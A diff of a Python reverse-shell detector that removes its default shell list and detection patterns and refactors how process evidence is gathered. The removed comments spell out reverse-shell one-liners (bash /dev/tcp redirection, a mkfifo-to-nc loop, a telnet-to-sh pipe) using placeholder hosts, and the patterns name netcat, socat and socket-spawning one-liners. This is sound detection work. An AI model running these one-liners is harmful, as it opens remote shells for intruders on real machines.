@@ -67,56 +67,6 @@ REMEDIATION = (
     "it; change its credentials and reinstall it from a trusted image."
 )
 
-DEFAULT_SHELLS = (
-    "sh",
-    "ash",
-    "bash",
-    "dash",
-    "hush",
-    "ksh",
-    "mksh",
-    "zsh",
-    "csh",
-    "tcsh",
-    "fish",
-    "python*",
-    "perl*",
-    "ruby*",
-    "php*",
-    "lua*",
-    "node",
-    "nodejs",
-    "tclsh*",
-)
-
-DEFAULT_PATTERNS = (
-    # bash's /dev/tcp redirections feeding a shell: `bash -i >& /dev/tcp/H/P 0>&1`,
-    # `exec 5<>/dev/tcp/H/P`; a port check `</dev/tcp/H/22` has neither `>&`, `<&` nor `<>`
-    "dev-tcp: has=/dev/tcp/,/dev/udp/ has=>&,<&,<>",
-    # netcat handing a program to the connection: nc -e, ncat -c/--sh-exec, busybox nc -e
-    "netcat-exec: prog=nc,ncat,netcat,nc.traditional,nc.openbsd,pwncat "
-    "opt=e,c,--exec,--sh-exec,--lua-exec",
-    # socat connecting a network address to a program (a pty to a program is not one)
-    "socat-exec: prog=socat has=exec:,system: has=tcp,udp,ssl,sctp,socks",
-    # a FIFO closing the loop: mkfifo f; cat f | sh -i 2>&1 | nc H P > f
-    "fifo-pipe: has=mkfifo,mknod has=%20nc%20,|nc%20,/nc%20,ncat,netcat,telnet%20,s_client,"
-    "socat%20 has=/sh,sh%20-i,bash,|sh,|%20sh",
-    # telnet H P | /bin/sh | telnet H P2
-    "telnet-pipe: has=telnet%20 has=|sh,|%20sh,|/bin/sh,|%20/bin/sh,|bash,|%20bash,"
-    "|/bin/bash,|%20/bin/bash",
-    "awk-inet: prog=awk,gawk has=/inet/tcp/,/inet/udp/,/inet4/tcp/,/inet6/tcp/",
-    # one-liners that open a socket and hand it to a shell
-    "python-socket: prog=python* opt=c has=socket has=pty.spawn,subprocess,dup2,os.exec,"
-    "popen,os.system",
-    "perl-socket: prog=perl* opt=e,E has=socket has=exec,system,dup2,fdopen,open(stdin",
-    "ruby-socket: prog=ruby* opt=e has=socket has=exec,spawn,system,popen,reopen,dup2",
-    "php-socket: prog=php* opt=r has=fsockopen,socket_create,stream_socket_client "
-    "has=exec,system,passthru,popen,proc_open,`",
-    "lua-socket: prog=lua* opt=e has=socket has=os.execute,io.popen",
-    "node-socket: prog=node,nodejs opt=e has=net.socket,net.connect,createconnection,"
-    "require('net'),require(%22net%22) has=child_process",
-)
-
 
 class PatternError(ValueError):
     """A pattern that cannot be read."""
@@ -239,8 +189,8 @@ class ReverseShellDetector(Quiet):
     def __init__(
         self,
         ctx: Context,
-        shells: list[str] | tuple[str, ...] = DEFAULT_SHELLS,
-        patterns: list[str] | tuple[str, ...] = DEFAULT_PATTERNS,
+        shells: list[str] | tuple[str, ...],
+        patterns: list[str] | tuple[str, ...],
         allow_parents: list[str] | tuple[str, ...] = (),
         proc: str = "/proc",
         max_socket_rows: int = 4096,
@@ -316,14 +266,7 @@ class ReverseShellDetector(Quiet):
         stdio: dict[str, Any] | None,
     ) -> list[Record]:
         evidence: dict[str, Any] = {
-            "pid": pid,
-            "ppid": payload.get("ppid"),
-            "user": payload.get("user"),
-            "uid": payload.get("uid"),
-            "executable": commands.shown(payload.get("executable")),
-            "cmdline": commands.shown(cmdline) if cmdline else None,
-            "parent_executable": commands.shown(payload.get("parent_executable")),
-            "parent_cmdline": commands.shown(payload.get("parent_cmdline")),
+            **commands.process(payload, cmdline),
             "patterns": hits,
             "stdio_sockets": [],
             "protocol": None,
